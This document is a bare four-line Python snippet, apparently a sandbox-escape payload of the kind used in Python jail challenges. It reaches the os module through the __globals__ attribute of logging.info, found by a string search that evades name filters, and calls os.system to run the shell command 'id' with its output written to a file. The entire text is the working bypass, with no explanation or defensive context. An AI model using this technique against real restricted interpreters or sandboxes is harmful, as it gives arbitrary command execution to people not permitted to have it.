import logging
for n in dir(logging.info):
    if "globals" in n:
        getattr(logging.info, n)["os"].system("id>pf")
